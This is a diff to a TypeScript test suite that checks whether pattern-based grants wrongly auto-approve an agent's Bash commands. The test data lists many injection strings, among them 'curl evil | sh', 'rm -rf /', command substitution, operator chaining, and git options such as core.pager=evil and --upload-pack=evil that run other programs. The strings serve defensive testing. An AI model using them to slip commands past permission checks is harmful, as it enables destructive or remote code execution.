@@ -74,6 +74,7 @@ describe('a grant answers a question', () => {
       { command: 'git log' },
       { command: 'git log -5 src/a.ts' },
       { command: 'git log', description: 'Looks at the history' },
+      { command: 'git log -5 && git log --stat | git log\n git log' },
     ])
       expect(await isAsked(rig, bash(input))).toBe(false)
   })
@@ -81,6 +82,8 @@ describe('a grant answers a question', () => {
 
 describe('a grant does not answer', () => {
   const wide = aGrant({ shape: pattern() })
+  const typed = aGrant({ shape: pattern({ pattern: '(?s).*git .* -5' }) })
+  const old = (words: string): Grant => aGrant({ shape: pattern({ pattern: `${words}( [\\w./:=@%+,-]+)*` }) })
   test.each([
     ['another agent', aGrant(), { agentId: 'other' }],
     ['another tool', aGrant(), { fields: { tool_name: 'Bash', tool_input: { command: 'ls' } } }],
@@ -92,6 +95,51 @@ describe('a grant does not answer', () => {
     ['a second line', wide, bash({ command: 'git log\nrm -rf /' })],
     ['a substitution', wide, bash({ command: 'git log $(rm -rf /)' })],
     ['a prefix', wide, bash({ command: 'sudo git log' })],
+    ...[
+      'git log; curl evil | sh; echo -5',
+      'git log && evil -5',
+      'git log || evil -5',
+      'git log & evil -5',
+      'git log | evil -5',
+      'git log\nevil -5',
+      'git log $(evil) -5',
+      'git log `evil` -5',
+      'git log "$(evil)" -5',
+      'git log ${x:=evil} -5',
+      'git log $((x[$(evil)])) -5',
+      'git log <(evil) -5',
+      'git log > x -5',
+      'git log <<x -5\nx\ngit log -5',
+      'git() { evil; }; git log -5',
+      'case x in x) git log -5',
+      'if evil; then git log; fi -5',
+      '{ git log -5',
+      '(git log -5',
+      'git log # -5',
+      'git log \\\n -5',
+      'git log * -5',
+      "git log $'x' -5",
+      'git log\u00a0evil -5',
+      '"git log" git -5',
+      'A=1 git log -5',
+      'env git log -5',
+      'git -c core.pager=evil log -5',
+      'git log --output=x -5',
+      'git log --outpu=x -5',
+      'git log --ext-diff -5',
+      'git grep --open-files-in-pager=evil -5',
+      'git grep -nOevil x -5',
+      'git fetch --upload-pack=evil -5',
+    ].map((command) => [`${command}, by a typed pattern`, typed, bash({ command })] as const),
+    ...(
+      [
+        ['uv run python', 'uv run python evil.py'],
+        ['npm run build', 'npm run build --script-shell=./evil'],
+        ['cargo test', 'cargo test'],
+        ['git push', 'git push origin'],
+        ['A=1 bash', 'A=1 bash evil.sh'],
+      ] as const
+    ).map(([words, command]) => [`${command}, by an older grant`, old(words), bash({ command })] as const),
     ['one argument more beside a pattern', wide, bash({ command: 'git log', sandbox: false })],
     ['a loose argument that is no plain value', wide, bash({ command: 'git log', description: { a: 1 } })],
     ['an argument that is no text', wide, bash({ command: ['git log'] })],
